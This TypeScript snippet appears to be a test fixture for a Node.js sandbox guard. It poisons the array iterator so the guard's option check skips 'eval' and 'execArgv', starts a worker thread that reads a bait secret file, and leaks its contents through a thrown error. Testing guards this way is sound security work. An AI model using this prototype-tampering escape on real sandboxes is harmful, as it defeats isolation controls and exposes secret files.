// Has the guard’s own loop hand on the flags that it leaves out, and reads in a thread.
import { Worker } from 'node:worker_threads';

const bait = JSON.parse('$BAIT');
const iterate = Array.prototype[Symbol.iterator];
Array.prototype[Symbol.iterator] = function (this: unknown[]) {
  const own = this.includes('workerData') ? [...(function* () { yield 'eval'; yield 'execArgv'; })()] : this;
  return iterate.call(own);
} as never;
const code = `require('node:worker_threads').parentPort.postMessage(require('node:fs').readFileSync(${JSON.stringify(bait.secret)}, 'utf8'))`;
const worker = new Worker(code, { eval: true, execArgv: [] });
throw new Error(await new Promise((resolve, reject) => worker.on('message', resolve).on('error', reject)));
